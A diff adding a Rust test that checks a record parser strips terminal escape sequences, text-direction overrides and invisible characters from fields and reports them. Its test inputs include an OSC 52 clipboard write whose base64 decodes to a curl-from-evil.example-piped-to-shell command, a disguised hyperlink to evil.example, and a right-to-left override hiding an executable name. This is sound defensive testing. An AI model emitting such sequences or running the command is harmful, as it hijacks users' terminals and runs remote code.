@@ -642,6 +642,97 @@ fn unknown_fields_are_kept_in_extra_and_written_back_out() {
     assert_eq!(again, network);
 }
 
+#[test]
+fn text_a_terminal_would_act_on_is_removed_from_every_field_and_reported() {
+    let rows = [
+        Row {
+            what: "an OSC 52 clipboard write in the name",
+            record: with(
+                json!({"name": "Test\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7} Net"}),
+            ),
+            errors: &["name"],
+            set: &[("name", r#""Test Net""#)],
+            message: "removed 1 terminal escape sequence",
+            ..ROW
+        },
+        Row {
+            what: "a bidi override and an 8-bit CSI in the summary",
+            record: with(json!({"summary": "A \u{202e}txt.exe\u{9b}2J network"})),
+            errors: &["summary"],
+            set: &[("summary", r#""A txt.exe network""#)],
+            message: "1 terminal escape sequence and 1 text-direction control",
+            ..ROW
+        },
+        Row {
+            what: "zero-width characters only warn",
+            record: with(json!({"join": "Write to ad\u{200b}min", "contact": "x\u{ad}y"})),
+            warnings: &["join", "contact"],
+            set: &[("join", r#""Write to admin""#), ("contact", r#""xy""#)],
+            message: "removed 1 invisible character",
+            ..ROW
+        },
+        Row {
+            what: "list items, an address and a year",
+            record: with(json!({
+                "activities": ["meetups\u{1b}[2J", "\u{7}"],
+                "url": "https://example.org/\u{1b}]8;;https://evil.example\u{7}",
+                "founded": "2016\u{200b}",
+            })),
+            errors: &["activities", "url"],
+            warnings: &["founded"],
+            set: &[
+                ("activities", r#"["meetups"]"#),
+                ("url", r#""https://example.org/""#),
+                ("founded", "2016"),
+            ],
+            ..ROW
+        },
+        Row {
+            what: "a name that is nothing but an escape sequence is missing",
+            record: with(json!({"name": "\u{1b}[2J"})),
+            skipped: true,
+            errors: &["name"],
+            message: "missing",
+            ..ROW
+        },
+        Row {
+            what: "unknown fields, their names and nested text",
+            record: with(json!({
+                "colour\u{1b}[8m": "teal\u{1b}]0;title\u{7}",
+                "aliases": ["Net\u{2066}A\u{2069}", "ok"],
+                "nested": {"k\u{200b}": ["\u{9d}8;;x\u{9c}v"]},
+            })),
+            errors: &["colour", "aliases", "nested"],
+            set: &[
+                ("colour", r#""teal""#),
+                ("aliases", r#"["NetA", "ok"]"#),
+                ("nested", r#"{"k": ["v"]}"#),
+            ],
+            ..ROW
+        },
+        Row {
+            what: "a field name that cleans to a known one is read as it",
+            record: without(&["summary"])
+                .as_object()
+                .map(|m| {
+                    let mut m = m.clone();
+                    m.insert(
+                        "sum\u{200b}mary".into(),
+                        json!("Found under a disguised name."),
+                    );
+                    Value::Object(m)
+                })
+                .unwrap(),
+            warnings: &["summary"],
+            set: &[("summary", r#""Found under a disguised name.""#)],
+            ..ROW
+        },
+    ];
+    for row in &rows {
+        check(row);
+    }
+}
+
 // ---------------------------------------------------------------------------
 // Whole documents
 
